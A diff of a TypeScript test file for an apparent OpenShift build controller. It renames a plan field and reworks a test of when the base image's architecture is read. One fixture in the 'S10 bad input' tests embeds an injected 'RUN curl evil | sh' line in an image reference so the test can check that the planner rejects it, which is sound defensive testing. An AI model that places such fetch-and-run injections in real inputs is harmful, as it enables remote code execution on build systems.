@@ -122,7 +122,7 @@ describe('plan: first pass for a new pool (exact objects)', () => {
     // A settled pool plans no writes that change anything.
     const p = w.plan(P);
     expect(p.createBuilds).toEqual([]);
-    expect(p.poolAnnotations).toBeUndefined();
+    expect(p.poolApply).toBeUndefined();
     expect(p.status).toBeUndefined();
     expect(p.push).toBeUndefined();
   });
@@ -255,16 +255,29 @@ describe('S3 MachineConfig change', () => {
 });
 
 describe('builds run on nodes of the base\'s architecture', () => {
-  it('asks the I/O layer for the base\'s architecture once the base is known, and plans no nodeSelector without it', () => {
+  it('asks the I/O layer for the base\'s architecture only when a Build is about to start, and holds the Build until it is known', () => {
     const w = new World({ debounceMs: 0 });
+    w.architectureOf = () => 'arm64';
     firstSetup(w);
-    w.step();
-    w.step();
-    const p = plan(w.snapshot(P)); // the planner alone: nothing read yet
-    const baseDigest = w.streams.get('worker-base')!.status!.tags!.find((t) => t.tag === 'latest')!.items![0]!.image;
-    expect(p.readBaseArchitecture).toEqual({ stream: 'worker-base', digest: baseDigest });
-    w.baseArchitectures.set(baseDigest, 'arm64');
+    const seen: { read: boolean; builds: number }[] = [];
+    for (let i = 0; i < 10 && w.buildsCreated.length === 0; i++) {
+      const p = plan(w.snapshot(P)); // the planner alone: nothing read yet
+      seen.push({ read: p.readBaseArchitecture !== undefined, builds: p.createBuilds.length });
+      if (p.readBaseArchitecture) {
+        const baseDigest = w.streams.get('worker-base')!.status!.tags!.find((t) => t.tag === 'latest')!.items![0]!.image;
+        expect(p.readBaseArchitecture).toEqual({ stream: 'worker-base', digest: baseDigest });
+        expect(p.status?.buildAttempts?.map((r) => r.lastAttempt)).toEqual([0]); // a Build not created is no attempt
+      }
+      w.step();
+    }
+    // Asked only in the plan that would start the Build, which then waits for it; no plan before asked.
+    expect(seen.filter((x) => x.read)).toEqual([{ read: true, builds: 0 }]);
+    expect(seen.findIndex((x) => x.read)).toBe(seen.length - 1); // and the world's step, which read it, created the Build
+    expect((w.buildsOf('content')[0]!.spec as { nodeSelector?: unknown }).nodeSelector).toEqual({ 'kubernetes.io/arch': 'arm64' });
+    // Idle: nothing more to read.
+    w.settle();
     expect(plan(w.snapshot(P)).readBaseArchitecture).toBeUndefined();
+    expect(w.architecturesRead).toHaveLength(1);
   });
 
   it('the architecture OpenShift records is the Builds\' nodeSelector; an image that records none gets none', () => {
@@ -483,7 +496,7 @@ describe('S9 pool unlabelled or deleted', () => {
     expect(p.managed).toBe(false);
     expect(p.apply).toEqual([]);
     expect(p.createBuilds).toEqual([]);
-    expect(p.poolAnnotations).toBeUndefined();
+    expect(p.poolApply).toBeUndefined();
     expect(p.status?.phase).toBe('Unmanaged');
     w.apply(p);
     expect(w.plan(P).status).toBeUndefined(); // said once
@@ -536,7 +549,7 @@ describe('S10 bad input', () => {
       tags: [{ tag: 'latest', items: [{ dockerImageReference: `${REG}/x/y@${digestOf('z')}\nRUN curl evil | sh`, image: digestOf('z') }] }],
     };
     const p = w.plan(P);
-    expect(p.poolAnnotations).toBeUndefined();
+    expect(p.poolApply).toBeUndefined();
     expect(p.status?.conditions?.find((c) => c.type === 'Degraded')).toMatchObject({ status: 'True', reason: 'InvalidImageReference' });
     expect(p.status?.conditions?.find((c) => c.type === 'Degraded')?.message).toMatch(/no whitespace, newlines/);
     w.apply(p);
